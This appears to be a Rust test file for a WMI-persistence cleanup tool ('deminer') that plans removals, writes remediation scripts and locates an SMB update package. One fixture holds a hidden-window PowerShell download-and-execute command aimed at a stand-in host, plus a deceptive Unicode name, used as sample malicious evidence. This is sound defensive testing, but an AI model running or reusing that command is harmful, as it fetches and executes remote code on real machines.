//! Plans and scripts.

use crate::support::{TempDir, examples, run, subscription};
use serde_json::Value;
use std::path::Path;

/// The plan for one host of the examples, and what was said of it.
fn plan_for(host: &str, folder: &Path) -> (i32, Value, String) {
    let file = folder.join("plan.json");
    let examples = examples();
    let args = [Path::new("plan"), &examples, "--host".as_ref(), host.as_ref(), "--output".as_ref(), &file];
    let run = run(args);
    let plan = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    (run.status, plan, run.stdout)
}

fn verbs(plan: &Value) -> Vec<String> {
    let text = |value: &Value| value.as_str().unwrap_or("-").to_owned();
    plan["actions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|action| {
            let target = &action["target"];
            format!("{} {} {}", text(&action["verb"]), text(&target["kind"]), text(&target["class"]))
        })
        .collect()
}

#[test]
fn what_holds_the_others_together_goes_first() {
    let folder = TempDir::new().unwrap();
    let (status, plan, summary) = plan_for("pc-accounting", folder.path());
    assert_eq!(status, 1);
    assert_eq!(plan["schema"], "deminer.plan/1");
    insta::assert_snapshot!(verbs(&plan).join("\n"), @r"
    remove wmi-instance __FilterToConsumerBinding
    remove wmi-instance __FilterToConsumerBinding
    remove wmi-instance CommandLineEventConsumer
    remove wmi-instance CommandLineEventConsumer
    remove wmi-instance __EventFilter
    remove wmi-instance __EventFilter
    remove wmi-class Win32_Services
    ");
    assert!(summary.starts_with("plan for PC-ACCOUNTING: 7 actions"), "{summary}");
}

#[test]
fn what_windows_has_is_never_planned_and_what_is_missing_is_offered() {
    let folder = TempDir::new().unwrap();
    let (_, plan, _) = plan_for("PC-RECEPTION", folder.path());
    assert!(!plan.to_string().contains("SCM Event Log Filter"), "{plan}");
    assert_eq!(verbs(&plan).last().map(String::as_str), Some("restore stock-entry -"));
    let (status, plan, _) = plan_for("PC-CLEAN", folder.path());
    assert_eq!((status, plan["actions"].as_array().map(Vec::len)), (0, Some(0)));
}

#[test]
fn a_plan_is_for_one_host() {
    let several = run([Path::new("plan"), &examples()]);
    assert_eq!(several.status, 2);
    assert!(several.stderr.contains("--host"), "{}", several.stderr);
    let slip = run([Path::new("plan"), &examples(), "--host=PC-ACOUNTING".as_ref()]);
    assert!(slip.stderr.contains("did you mean `PC-ACCOUNTING`"), "{}", slip.stderr);
}

#[test]
fn names_in_a_plan_do_not_act_on_the_terminal_and_are_whole() {
    let folder = TempDir::new().unwrap();
    let name = "\u{202E}gpj\u{200B}\u{9b}";
    let query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'";
    let command = "powershell -NoP -W Hidden -C \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')\"";
    let evidence = folder.path().join("PC-1_WMI.txt");
    std::fs::write(&evidence, subscription(name, query, command)).unwrap();
    let printed = run([Path::new("plan"), &evidence]);
    assert!(!printed.stdout.contains(|c: char| name.contains(c) && !c.is_ascii()), "{}", printed.stdout);
    assert!(printed.stdout.contains(r"\u202egpj\u200b\u009b"), "{}", printed.stdout);
    let plan: Value = serde_json::from_str(&printed.stdout).unwrap();
    assert!(plan["actions"].to_string().contains(name), "{plan}");
    let file = folder.path().join("plan.json");
    std::fs::write(&file, &printed.stdout).unwrap();
    assert_eq!(run([Path::new("script"), &file]).status, 0);
}

#[test]
fn a_script_holds_hashes_and_no_names() {
    let folder = TempDir::new().unwrap();
    plan_for("PC-ACCOUNTING", folder.path());
    let script = run([Path::new("script"), &folder.path().join("plan.json")]);
    assert_eq!(script.status, 0);
    assert!(script.stdout.is_ascii());
    assert_eq!(script.stdout.lines().filter(|line| line.starts_with("@{ Kind = ")).count(), 7);
    for name in ["SCM Event8", "Win32_Services", "PC-ACCOUNTING", "powershell.exe -NoP"] {
        assert!(!script.stdout.contains(name), "{name}");
    }
}

#[test]
fn what_a_script_does_not_do_is_said_truly() {
    let folder = TempDir::new().unwrap();
    plan_for("PC-RECEPTION", folder.path());
    for (lang, words) in
        [("en", "one action of the plan is of a kind that the script does not do"), ("ja", "1 件")]
    {
        let script =
            run([Path::new("script"), &folder.path().join("plan.json"), "--lang".as_ref(), lang.as_ref()]);
        assert!(script.stderr.contains(words), "{}", script.stderr);
        assert!(script.stdout.contains("$LeftOut = 1"), "the stock entry that is to be put back");
    }
}

#[test]
fn what_is_no_plan_is_no_script() {
    let folder = TempDir::new().unwrap();
    let file = folder.path().join("plan.json");
    for text in ["", "{}", "[1]", r#"{"schema": "deminer.plan/9"}"#] {
        std::fs::write(&file, text).unwrap();
        let refused = run([Path::new("script"), &file]);
        assert_eq!(refused.status, 2, "{text}");
        assert!(refused.stderr.contains("hint: `deminer plan"), "{}", refused.stderr);
    }
}

#[test]
fn packages_of_updates_are_looked_for_where_they_are_said_to_be() {
    let folder = TempDir::new().unwrap();
    let (evidence, updates) = (folder.path().join("PC-1"), folder.path().join("updates"));
    for folder in [&evidence, &updates] {
        std::fs::create_dir(folder).unwrap();
    }
    let version = "FileName : C:\\Windows\\System32\\drivers\\srv.sys\r\nFileMajorPart : 6\r\nFileMinorPart : 1\r\n\
        FileBuildPart : 7601\r\nFilePrivatePart : 17514\r\n";
    std::fs::write(evidence.join("srv-sys.txt"), version).unwrap();
    std::fs::write(evidence.join("ver.txt"), "\r\nMicrosoft Windows [Version 6.1.7601]\r\n").unwrap();
    std::fs::write(updates.join("windows6.1-kb4012215-x64_00.msu"), "MSCF").unwrap();
    let planned = |more: &[&Path]| {
        let run = run([&[Path::new("plan"), &evidence], more].concat());
        let plan: Value = serde_json::from_str(&run.stdout).unwrap_or_default();
        (run.status, plan["refused"][0]["why"]["id"].as_str().map(str::to_owned), run.stderr)
    };
    // Nobody asked for updates.
    assert_eq!(planned(&[]).1, None);
    // A path of this system is none of a machine with Windows, so that of the machine has to be said.
    if !cfg!(windows) {
        let (status, _, error) = planned(&["--updates".as_ref(), &updates]);
        assert!(status == 2 && error.contains("--updates-on-machine"), "{error}");
    }
    let there = |path: &'static str| ["--updates-on-machine".as_ref(), Path::new(path)];
    let (status, _, error) =
        planned(&[&[Path::new("--updates"), updates.as_path()][..], &there("/mnt")].concat());
    assert!(status == 2 && error.contains("`/mnt`"), "{error}");
    let plan = run([
        &[Path::new("plan"), &evidence, Path::new("--updates"), updates.as_path()][..],
        &there(r"D:\updates"),
    ]
    .concat());
    let plan: Value = serde_json::from_str(&plan.stdout).unwrap();
    let package = r"D:\updates\windows6.1-kb4012215-x64_00.msu";
    assert_eq!(plan["actions"][0]["target"]["package"], package, "{plan:#}");
    // Nothing of it is for a script, so none is named.
    let file = folder.path().join("plan.json");
    let (status, _, said) = planned(
        &[
            &["--output".as_ref(), file.as_path(), Path::new("--updates"), updates.as_path()][..],
            &there(r"D:\updates"),
        ]
        .concat(),
    );
    assert_eq!(status, 1);
    assert!(said.contains("deminer clean") && !said.contains("deminer script"), "{said}");
    let (status, _, error) =
        planned(&[&["--updates".as_ref(), Path::new("/no/such/folder")][..], &there(r"D:\updates")].concat());
    assert!(status == 2 && error.contains("/no/such/folder"), "{error}");
}
